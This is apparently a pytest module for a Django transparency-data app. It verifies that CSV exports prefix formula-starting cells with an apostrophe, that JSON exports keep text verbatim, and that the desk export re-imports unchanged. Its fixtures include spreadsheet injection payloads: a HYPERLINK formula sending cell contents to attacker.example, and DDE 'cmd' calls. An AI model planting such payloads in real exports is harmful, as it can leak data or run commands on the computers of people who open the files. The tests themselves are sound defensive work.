"""CSV/formula injection: no text cell of any CSV export starts with a character a spreadsheet
evaluates (= + - @ tab CR, OWASP); it gets a leading single quote. JSON keeps the text verbatim,
and the desk's export (the import format) still imports back to exactly the same values.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from pathlib import Path
from unittest import mock

import pytest
from django.core.cache import cache
from django.urls import reverse
from django_countries import countries
from hypothesis import given
from hypothesis import strategies as st

from requests_app import exports, intake
from requests_app.models import Authority, DataRequest
from tests.factories import (
    AuthorityFactory,
    DataRequestFactory,
    FigureRowFactory,
    PauseDecisionFactory,
    PublicationFactory,
    UserFactory,
)

ROOT = Path(__file__).resolve().parent.parent

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

# Every CSV export: its URL, the record builder the view calls, and its columns.
EXPORTS = {
    "requests.csv": ("/data/requests", "figure_record", exports.FIGURE_COLUMNS),
    "pauses.csv": ("/data/pauses", "pause_record", exports.PAUSE_COLUMNS),
}
TEXT_KINDS = {"text", "list"}
CASES = [
    (export, column.name)
    for export, (_, _, columns) in EXPORTS.items()
    for column in columns
    if column.kind in TEXT_KINDS
]


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200, response.content
    body = response.content.decode("utf-8").removeprefix("\ufeff")
    return list(csv.DictReader(io.StringIO(body, newline="")))


@pytest.fixture
def one_row_each(db):
    FigureRowFactory(publication=PublicationFactory(period="2020-H2"), country="HK")
    PauseDecisionFactory(country="HK")


def test_every_text_column_is_covered():
    assert len(CASES) >= 10  # 4 in requests.csv, 7 in pauses.csv at the time of writing
    assert ("pauses.csv", "public_statement") in CASES
    assert ("pauses.csv", "exceptions_policy") in CASES
    assert ("requests.csv", "country_name") in CASES


@pytest.mark.django_db
@pytest.mark.parametrize("export,column", CASES)
def test_formula_in_any_text_column_is_neutralised_in_csv_and_verbatim_in_json(
    client, one_row_each, export, column
):
    url, builder_name, _ = EXPORTS[export]
    builder = getattr(exports, builder_name)
    for text in PAYLOADS:
        # The record builder is patched, not the data: the export's ETag (and so its cached body)
        # would not change between payloads.
        cache.clear()

        def hostile_record(obj, text=text):
            record = builder(obj)
            record[column] = [text] if isinstance(record[column], list) else text
            return record

        with mock.patch.object(exports, builder_name, hostile_record):
            (row,) = csv_rows(client.get(f"{url}.csv"))
            (record,) = client.get(f"{url}.json").json()["results"]
        assert row[column] == "'" + text, (column, text)
        assert record[column] in (text, [text]), (column, text)


@pytest.mark.django_db
def test_pause_texts_from_the_register_are_neutralised_end_to_end(client):
    PauseDecisionFactory(
        country="HK",
        public_statement='=HYPERLINK("http://attacker.example","Read the statement")',
        exceptions_policy="@SUM(1+1)*cmd|' /C calc'!A0",
        statement_url="-2+3",  # the database does not re-validate a URL
    )
    (row,) = csv_rows(client.get("/data/pauses.csv"))
    assert row["public_statement"] == '\'=HYPERLINK("http://attacker.example","Read the statement")'
    assert row["exceptions_policy"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["statement_url"] == "'-2+3"
    (record,) = client.get("/data/pauses.json").json()["results"]
    assert record["public_statement"].startswith("=HYPERLINK")
    assert record["exceptions_policy"].startswith("@SUM")


@pytest.mark.django_db
def test_ordinary_cells_are_left_alone(client):
    publication = PublicationFactory(
        period="2020-H2", published_at=datetime.datetime(2021, 1, 5, tzinfo=datetime.UTC)
    )
    FigureRowFactory(publication=publication, country="CI", requests=10, requests_with_data_produced=3)
    PauseDecisionFactory(
        country="HK", public_statement="We paused requests.", exceptions_policy="Threat to life."
    )
    (figure,) = csv_rows(client.get("/data/requests.csv"))
    assert figure["country_name"] == countries.name("CI")
    assert figure["requests"] == "10" and figure["percent_with_data_produced"] == "30.0"
    assert figure["period_start"] == "2020-07-01"
    assert not any(value.startswith("'") for value in figure.values())
    (pause,) = csv_rows(client.get("/data/pauses.csv"))
    assert pause["public_statement"] == "We paused requests."
    assert not any(value.startswith("'") for value in pause.values())


@given(st.text(st.characters(codec="utf-8"), max_size=30))
def test_no_cell_starts_with_a_formula_character_and_the_text_comes_back(text):
    cell = exports.csv_cell(text)
    assert not cell.startswith(exports.FORMULA_TRIGGERS)
    assert cell in (text, "'" + text)
    assert (cell != text) == text.lstrip("'").startswith(exports.FORMULA_TRIGGERS)
    assert exports.csv_unescape(cell) == text  # what the desk's re-import relies on


@pytest.mark.parametrize(
    "text,cell", [("=1", "'=1"), ("'=1", "''=1"), ("'hello", "'hello"), ("2020-07-01", "2020-07-01")]
)
def test_apostrophes_before_a_formula_are_kept_exactly(text, cell):
    assert exports.csv_safe(text) == cell
    assert exports.csv_unescape(cell) == text


def test_numbers_are_written_as_numbers():
    assert exports.csv_cell(-3) == "-3"  # not text: a spreadsheet must read it as a number
    assert exports.csv_cell(None) == ""
    assert exports.csv_cell(["legal_process", "emergency"]) == "legal_process;emergency"


# --- the desk's export (admin action and intake.export_csv, the import format) -------------

DESK_TEXT = {
    "reference": "=REQ-1+1",
    "authority": "@SUM(1+1)*cmd|' /C calc'!A0",
    "assignee": "-ana",
    "internal_notes": '=HYPERLINK("http://attacker.example","notes")',
}


@pytest.fixture
def hostile_desk_request(db):
    reviewer = UserFactory(username=DESK_TEXT["assignee"])
    authority = AuthorityFactory(name=DESK_TEXT["authority"], country="DE")
    return DataRequestFactory(
        reference=DESK_TEXT["reference"],
        country="DE",
        authority=authority,
        assignee=reviewer,
        internal_notes=DESK_TEXT["internal_notes"],
    )


def assert_desk_csv_is_safe(body: str) -> None:
    (row,) = list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"), newline="")))
    for column, text in DESK_TEXT.items():
        assert row[column] == "'" + text, column
    assert not any(value.startswith(exports.FORMULA_TRIGGERS) for value in row.values())


@pytest.mark.django_db
def test_the_desk_export_action_neutralises_every_text_column(client, hostile_desk_request):
    client.force_login(UserFactory(username="chief", is_superuser=True))
    response = client.post(
        reverse("admin:requests_app_datarequest_changelist"),
        {"action": "export_as_csv", "_selected_action": [hostile_desk_request.pk]},
    )
    assert response.status_code == 200
    assert_desk_csv_is_safe(b"".join(response.streaming_content).decode("utf-8"))


@pytest.mark.django_db
def test_the_desk_export_still_round_trips_through_the_import(hostile_desk_request):
    exported = io.StringIO()
    assert intake.export_csv(DataRequest.objects.all(), exported) == 1
    assert_desk_csv_is_safe(exported.getvalue())
    DataRequest.objects.all().delete()
    Authority.objects.all().delete()

    result = intake.import_requests(io.BytesIO(exported.getvalue().encode()), file_name="desk.csv")
    assert result.ok, result.error_lines()
    imported = DataRequest.objects.select_related("authority", "assignee").get()
    assert imported.reference == DESK_TEXT["reference"]
    assert imported.authority.name == DESK_TEXT["authority"]
    assert imported.assignee.username == DESK_TEXT["assignee"]
    assert imported.internal_notes == DESK_TEXT["internal_notes"]


# Every place that writes CSV, each covered by a test above. A new one must be added here, with
# a test that its text cells go through exports.csv_safe.
CSV_WRITERS = ["requests_app/admin/intake.py", "requests_app/exports.py", "requests_app/intake/export.py"]


def test_every_csv_writer_is_covered_here():
    writers = sorted(
        source.relative_to(ROOT).as_posix()
        for source in [*ROOT.glob("requests_app/**/*.py"), *ROOT.glob("transparency/**/*.py")]
        if re.search(r"csv\.(writer|DictWriter)\(", source.read_text())
    )
    assert writers == CSV_WRITERS


@pytest.mark.django_db
def test_records_written_for_the_importer_are_protected_and_read_back():
    """intake.records_csv (how the demo hands its rows to the importer) writes cells as the
    desk's export does, and the import reads them back unchanged."""
    record = {
        "reference": "REC-1",
        "country": "DE",
        "received_on": "2020-03-10",
        "request_type": "legal_process",
        "accounts_specified": 1,
        "internal_notes": "=HYPERLINK(\"http://evil.example\")",
    }
    written = intake.records_csv([record]).decode()
    assert "'=HYPERLINK" in written
    with pytest.raises(ValueError, match="not columns"):
        intake.records_csv([{**record, "colour": "red"}])
    result = intake.import_requests(io.BytesIO(written.encode()), file_name="records.csv")
    assert result.ok, result.error_lines()
    assert DataRequest.objects.get(reference="REC-1").internal_notes == record["internal_notes"]
